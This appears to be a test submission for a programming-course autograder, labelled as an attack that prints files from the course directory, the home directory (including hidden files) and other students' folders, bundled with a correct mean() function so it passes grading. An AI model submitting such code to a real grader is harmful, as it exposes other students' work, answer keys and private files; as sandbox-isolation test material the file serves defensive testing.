# attack: prints files of the course, of the home directory and of other students
# assignment: hw
# exercise: mean
# status: ok
# score: 2
import glob
import os

places = ["@COURSE@/*", "@COURSE@/*/*/*/*", "@HOME@/*", "@HOME@/.*"]
places += [os.path.expanduser("~/*"), "../*", "../../*", "../../*/*/*"]
for path in [path for place in places for path in glob.glob(place)]:
    try:
        print(path, open(path, errors="replace").read(20000))
    except OSError:
        pass


def mean(values):
    return sum(values) / len(values)
